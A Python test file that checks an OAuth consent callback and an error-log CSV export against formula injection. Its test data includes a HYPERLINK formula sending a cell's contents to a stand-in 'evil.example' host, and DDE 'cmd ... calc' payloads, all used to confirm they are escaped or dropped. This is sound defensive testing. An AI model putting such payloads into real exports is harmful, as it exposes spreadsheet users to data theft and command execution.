"""What a trainer can type into their own consent return link reaches the manager only as one of
Google's error codes, and the manager's CSV never carries a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlmodel import Session, select

from db.models import IntegrationLog
from integrations.core.access import Actor
from integrations.google_calendar import connection
from integrations.monitoring import health
from integrations.monitoring.health import ErrorLogFilter
from tests.support.google_world import GoogleWorld

FORMULA = '=HYPERLINK("https://evil.example/steal?x="&A1,"Reconnect Google")'


def _return_with_error(
    world: GoogleWorld, actor: Actor, error: str, *, session: Session
) -> connection.ConsentError:
    """The trainer presses Connect, then edits the link Google sent them back with."""
    assert actor.trainer_id is not None
    url = connection.initiate_google_oauth(
        actor, actor.trainer_id, session=session, settings=world.settings, cipher=world.cipher
    )
    state = parse_qs(urlsplit(url).query)["state"][0]
    with pytest.raises(connection.ConsentError) as raised:
        connection.handle_google_oauth_callback(
            actor,
            code=None,
            state=state,
            error=error,
            session=session,
            settings=world.settings,
            cipher=world.cipher,
        )
    return raised.value


def _refusals(session: Session) -> list[str]:
    rows = session.exec(
        select(IntegrationLog).where(IntegrationLog.event == "google_consent_refused")
    ).all()
    return [row.message for row in rows]


def test_a_formula_typed_into_the_consent_return_link_is_logged_as_an_unknown_code(
    google_world: GoogleWorld, session: Session, people: dict[str, Actor]
) -> None:
    _return_with_error(google_world, people["trainer"], FORMULA, session=session)
    assert _refusals(session) == ["unknown"]
    data = health.export_error_log_csv(
        people["manager"], ErrorLogFilter(), session=session, zone="Asia/Jerusalem"
    )
    text = data.decode("utf-8-sig")
    assert "HYPERLINK" not in text


@pytest.mark.parametrize(
    "code", ["access_denied", "invalid_scope", "interaction_required", "consent_required"]
)
def test_googles_own_error_codes_reach_the_manager_as_sent(
    google_world: GoogleWorld, session: Session, people: dict[str, Actor], code: str
) -> None:
    _return_with_error(google_world, people["trainer"], code, session=session)
    assert _refusals(session) == [code]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(
    session: Session, people: dict[str, Actor], start: str
) -> None:
    """Trainer names and messages come from people and from Google: any of them may start with
    a formula sign, and the manager's spreadsheet must show it, not run it."""
    from db.models import Trainer, utcnow
    from tests.support.health_rows import log_line

    trainer = Trainer(name=f"{start}cmd|' /C calc'!A0", email="evil@example.com")
    session.add(trainer)
    session.commit()
    log_line(session, utcnow(), f"{start}SUM(1+1)*cmd|' /C calc'!A0", trainer_id=trainer.id)
    data = health.export_error_log_csv(
        people["manager"], ErrorLogFilter(), session=session, zone="Asia/Jerusalem"
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    row = rows[1]
    assert row[3] == f"'{start}cmd|' /C calc'!A0"
    assert row[5] == f"'{start}SUM(1+1)*cmd|' /C calc'!A0"


def test_ordinary_csv_cells_are_left_as_they_are(
    session: Session, people: dict[str, Actor]
) -> None:
    from db.models import utcnow
    from tests.support.health_rows import log_line

    log_line(session, utcnow(), "Google answered 503 (3 retries) — נכשל")
    data = health.export_error_log_csv(
        people["manager"], ErrorLogFilter(), session=session, zone="Asia/Jerusalem"
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][5] == "Google answered 503 (3 retries) — נכשל"
